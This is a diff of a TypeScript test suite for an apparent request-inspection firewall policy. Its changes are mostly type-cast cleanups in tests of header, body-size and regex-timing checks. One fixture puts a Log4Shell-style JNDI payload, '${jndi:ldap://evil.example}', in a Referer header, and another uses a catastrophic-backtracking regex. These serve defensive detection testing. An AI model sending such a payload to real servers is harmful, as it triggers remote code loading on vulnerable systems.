@@ -2,8 +2,7 @@ import assert from 'node:assert/strict';
 import { suite, test } from 'node:test';
 import { RE2JS } from 're2js';
 import { parser } from '#kernel';
-import type { Validated } from '../../exchange.ts';
-import { Refusal } from '../../refusal.ts';
+import type { Refusal } from '../../refusal.ts';
 import { compilePolicy, testExchange, type TestRequest } from '../../testing.ts';
 import { attacks } from './attacks.corpus.ts';
 import { legitimate } from './legitimate.corpus.ts';
@@ -12,7 +11,7 @@ import { policy } from './policy.ts';
 import { patternSets, setNames } from './sets/index.ts';
 
 function verdictOf(options: Record<string, unknown>, request: TestRequest): Refusal | undefined {
-  const verdict = compilePolicy(policy, options).inspect?.(testExchange(request) as Validated);
+  const verdict = compilePolicy(policy, options).inspect?.(testExchange(request));
   assert.ok(!(verdict instanceof Promise));
   return verdict;
 }
@@ -90,7 +89,7 @@ suite('where the sets look', () => {
       const x = testExchange({
         headers: ['User-Agent', 'x', 'Cookie', 'a=1', 'Referer', '${jndi:ldap://evil.example}'],
       });
-      assert.equal((steps.inspect?.(x as Validated) as Refusal).reason, 'template/1 in headers');
+      assert.equal((steps.inspect?.(x) as Refusal | undefined)?.reason, 'template/1 in headers');
     }
   });
 
@@ -141,7 +140,7 @@ suite('where the sets look', () => {
     assert.equal(steps.needsBody, true);
     assert.equal(steps.bodyLimit, 100);
     const x = testExchange({ headers: ['Content-Length', '101'] });
-    assert.equal((steps.validate?.(x as Validated) as Refusal).code, 'body-too-large');
+    assert.equal((steps.validate?.(x) as Refusal | undefined)?.code, 'body-too-large');
   });
 
   test('no body, nothing to inspect', () => assert.equal(reasonOf(inBody, {}), undefined));
@@ -209,7 +208,7 @@ suite("the operator's patterns", () => {
 
   test('run in linear time, whatever their form', () => {
     const steps = compilePolicy(policy, own('^(a+)+$', 'body'));
-    const x = testExchange(bodyOf('text/plain', `${'a'.repeat(60_000)}!`)) as Validated;
+    const x = testExchange(bodyOf('text/plain', `${'a'.repeat(60_000)}!`));
     const startedAt = performance.now();
     assert.equal(steps.inspect?.(x), undefined);
     // Exponential engines would not come back at all; the bound is generous on purpose.
@@ -222,7 +221,7 @@ suite("the operator's patterns", () => {
     { in: ['cookies'] },
     { patterns: [{ pattern: 'x' }] },
     { patterns: [{ pattern: 'x'.repeat(1001), in: ['path'] }] },
-    { patterns: Array(51).fill({ pattern: 'x', in: ['path'] }) },
+    { patterns: Array.from({ length: 51 }, () => ({ pattern: 'x', in: ['path'] })) },
     { bodyBytes: 2 ** 30 },
     { patern: [] },
   ])
@@ -249,8 +248,8 @@ test('bodies made to be slow are looked at in bounded time by the built-in sets'
   const startedAt = performance.now();
   for (const seed of hostile) {
     const text = seed.repeat(Math.ceil(60_000 / seed.length));
-    steps.inspect?.(testExchange(bodyOf('text/plain', text)) as Validated);
-    steps.inspect?.(testExchange(bodyOf('application/json', `{"a":"${text}`)) as Validated);
+    void steps.inspect?.(testExchange(bodyOf('text/plain', text)));
+    void steps.inspect?.(testExchange(bodyOf('application/json', `{"a":"${text}`)));
   }
   assert.ok(performance.now() - startedAt < 10_000);
 });
